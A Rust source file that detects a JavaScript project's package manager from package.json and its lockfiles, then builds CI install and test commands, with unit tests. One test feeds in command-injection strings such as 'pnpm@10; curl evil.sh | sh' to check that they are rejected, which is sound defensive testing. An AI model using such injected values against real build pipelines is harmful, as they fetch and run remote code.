//! The JavaScript package manager a project installs with, so that the CI job `generate` writes
//! (`ci_serve.rs`) installs and tests the way the project does: `npm ci` fails without a
//! `package-lock.json`, and a pnpm workspace, a Yarn project or a Bun one has its own lockfile
//! and commands.
//!
//! Read from the descriptor's folder, where the job's commands run: `package.json`'s
//! `packageManager` field first (Node.js docs, Corepack: `"pnpm@10.2.0"`), then the lockfile
//! each manager writes (`pnpm-lock.yaml`, `yarn.lock`, `bun.lock` or `bun.lockb`,
//! `package-lock.json` or `npm-shrinkwrap.json`).

use std::path::Path;

/// A package manager, with what tells its versions apart where their commands differ.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) enum PackageManager {
    /// npm with a lockfile: `npm ci` (npm docs: `npm ci` needs `package-lock.json` or
    /// `npm-shrinkwrap.json`). What a plan made without a folder assumes.
    #[default]
    Npm,
    /// npm without a lockfile: `npm install`.
    NpmWithoutLockfile,
    /// pnpm, at the version `packageManager` pins (else its current major, 10).
    Pnpm(Option<String>),
    /// Yarn 1 ("classic"), which GitHub's Ubuntu runners have installed: `yarn install
    /// --frozen-lockfile`.
    YarnClassic,
    /// Yarn 2 or later (`packageManager: "yarn@4..."` or a `.yarnrc.yml`), run through Corepack,
    /// which Node.js 22 ships (Yarn docs, installation): `yarn install --immutable`.
    YarnBerry,
    /// Bun (`oven-sh/setup-bun`, Bun docs, CI/CD): `bun install --frozen-lockfile`; the tests
    /// run as `bun run test`, the `test` script (`bun test` is Bun's own test runner).
    Bun,
}

/// pnpm's major version when nothing pins one.
const PNPM_MAJOR: &str = "10";

impl PackageManager {
    /// The package manager of the project in `dir`.
    #[must_use]
    pub(crate) fn of(dir: &Path) -> PackageManager {
        // A regular file only (a FIFO would wait for a writer), read as every input is:
        // bounded, so a huge one does not fill memory.
        let path = dir.join("package.json");
        let package_json = path
            .is_file()
            .then(|| crate::input::read_bounded(&path).ok())
            .flatten()
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
        if let Some(pm) = package_json.as_deref().and_then(declared) {
            return pm;
        }
        let has = |f: &str| dir.join(f).is_file();
        if has("pnpm-lock.yaml") {
            PackageManager::Pnpm(None)
        } else if has("yarn.lock") {
            if has(".yarnrc.yml") {
                PackageManager::YarnBerry
            } else {
                PackageManager::YarnClassic
            }
        } else if has("bun.lock") || has("bun.lockb") {
            PackageManager::Bun
        } else if has("package-lock.json") || has("npm-shrinkwrap.json") || package_json.is_none() {
            PackageManager::Npm
        } else {
            PackageManager::NpmWithoutLockfile
        }
    }

    /// The commands that install the dependencies, in order.
    #[must_use]
    pub(crate) fn install(&self) -> Vec<String> {
        match self {
            PackageManager::Npm => vec!["npm ci".to_owned()],
            PackageManager::NpmWithoutLockfile => vec!["npm install".to_owned()],
            PackageManager::Pnpm(version) => vec![
                format!(
                    "npm install --global pnpm@{}",
                    version.as_deref().unwrap_or(PNPM_MAJOR)
                ),
                "pnpm install --frozen-lockfile".to_owned(),
            ],
            PackageManager::YarnClassic => vec!["yarn install --frozen-lockfile".to_owned()],
            PackageManager::YarnBerry => vec![
                "corepack enable".to_owned(),
                "yarn install --immutable".to_owned(),
            ],
            PackageManager::Bun => vec!["bun install --frozen-lockfile".to_owned()],
        }
    }

    /// The command that runs the `test` script.
    #[must_use]
    pub(crate) fn test(&self) -> &'static str {
        match self {
            PackageManager::Npm | PackageManager::NpmWithoutLockfile => "npm test",
            PackageManager::Pnpm(_) => "pnpm test",
            PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn test",
            PackageManager::Bun => "bun run test",
        }
    }

    /// Whether the job sets Bun up (`oven-sh/setup-bun@v2`).
    #[must_use]
    pub(crate) fn is_bun(&self) -> bool {
        *self == PackageManager::Bun
    }
}

/// The manager `package.json`'s `packageManager` field names (`"pnpm@10.2.0+sha512.abc"`):
/// its version kept only when it is a plain version (digits, letters, dots and dashes), since
/// it goes into a command line of the job.
fn declared(package_json: &str) -> Option<PackageManager> {
    let at = package_json.find("\"packageManager\"")?;
    let rest = package_json[at + "\"packageManager\"".len()..].trim_start();
    let rest = rest.strip_prefix(':')?.trim_start().strip_prefix('"')?;
    let value = &rest[..rest.find('"')?];
    let (name, version) = value.split_once('@').unwrap_or((value, ""));
    let version = version.split('+').next().unwrap_or_default();
    let plain = !version.is_empty()
        && version.len() <= 64
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
    let major = version
        .split('.')
        .next()
        .and_then(|m| m.parse::<u32>().ok());
    Some(match name {
        "pnpm" => PackageManager::Pnpm(plain.then(|| version.to_owned())),
        "yarn" if major.is_some_and(|m| m >= 2) => PackageManager::YarnBerry,
        "yarn" => PackageManager::YarnClassic,
        "bun" => PackageManager::Bun,
        "npm" => PackageManager::Npm,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn folder(files: &[(&str, &str)]) -> std::path::PathBuf {
        use std::sync::atomic::{AtomicU32, Ordering};
        static N: AtomicU32 = AtomicU32::new(0);
        let dir = std::env::temp_dir().join(format!(
            "upwire-pm-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        std::fs::create_dir_all(&dir).unwrap();
        for (name, text) in files {
            std::fs::write(dir.join(name), text).unwrap();
        }
        dir
    }

    fn of(files: &[(&str, &str)]) -> PackageManager {
        let dir = folder(files);
        let pm = PackageManager::of(&dir);
        std::fs::remove_dir_all(dir).unwrap();
        pm
    }

    const PKG: &str = r#"{ "name": "app", "scripts": { "test": "vitest run" } }"#;

    #[test]
    fn the_lockfile_names_the_manager() {
        assert_eq!(
            of(&[("package.json", PKG), ("package-lock.json", "{}")]),
            PackageManager::Npm
        );
        assert_eq!(
            of(&[("package.json", PKG)]),
            PackageManager::NpmWithoutLockfile
        );
        assert_eq!(
            of(&[
                ("package.json", PKG),
                ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n")
            ]),
            PackageManager::Pnpm(None)
        );
        assert_eq!(
            of(&[("package.json", PKG), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
        assert_eq!(
            of(&[
                ("package.json", PKG),
                ("yarn.lock", ""),
                (".yarnrc.yml", "")
            ]),
            PackageManager::YarnBerry
        );
        assert_eq!(
            of(&[("package.json", PKG), ("bun.lock", "{}")]),
            PackageManager::Bun
        );
        assert_eq!(
            of(&[("package.json", PKG), ("bun.lockb", "")]),
            PackageManager::Bun
        );
        // No package.json at all (a Rust project with a JavaScript target elsewhere).
        assert_eq!(of(&[]), PackageManager::Npm);
    }

    #[test]
    fn package_manager_field_wins_and_only_a_plain_version_is_kept() {
        let pkg = |pm: &str| format!(r#"{{ "name": "app", "packageManager": "{pm}" }}"#);
        assert_eq!(
            of(&[
                ("package.json", &pkg("pnpm@10.28.2+sha512.0a1b")),
                ("package-lock.json", "{}")
            ]),
            PackageManager::Pnpm(Some("10.28.2".to_owned()))
        );
        assert_eq!(
            of(&[("package.json", &pkg("yarn@4.5.0"))]),
            PackageManager::YarnBerry
        );
        assert_eq!(
            of(&[("package.json", &pkg("yarn@1.22.22"))]),
            PackageManager::YarnClassic
        );
        assert_eq!(
            of(&[("package.json", &pkg("bun@1.3.3"))]),
            PackageManager::Bun
        );
        // Not a version: nothing of it reaches the job's command line.
        for hostile in ["pnpm@10; curl evil.sh | sh", "pnpm@$(id)", "pnpm@"] {
            let pm = of(&[("package.json", &pkg(hostile))]);
            assert_eq!(pm, PackageManager::Pnpm(None), "{hostile}");
            assert_eq!(pm.install()[0], "npm install --global pnpm@10");
        }
        // Something else: the lockfile decides.
        assert_eq!(
            of(&[("package.json", &pkg("deno@2")), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
    }

    #[test]
    fn each_manager_installs_and_tests_its_own_way() {
        let pnpm = PackageManager::Pnpm(Some("9.15.0".to_owned()));
        assert_eq!(
            pnpm.install(),
            [
                "npm install --global pnpm@9.15.0",
                "pnpm install --frozen-lockfile"
            ]
        );
        assert_eq!(pnpm.test(), "pnpm test");
        assert_eq!(PackageManager::Npm.install(), ["npm ci"]);
        assert_eq!(
            PackageManager::NpmWithoutLockfile.install(),
            ["npm install"]
        );
        assert_eq!(
            PackageManager::YarnBerry.install(),
            ["corepack enable", "yarn install --immutable"]
        );
        assert_eq!(PackageManager::Bun.test(), "bun run test");
        assert!(PackageManager::Bun.is_bun() && !PackageManager::Npm.is_bun());
    }
}
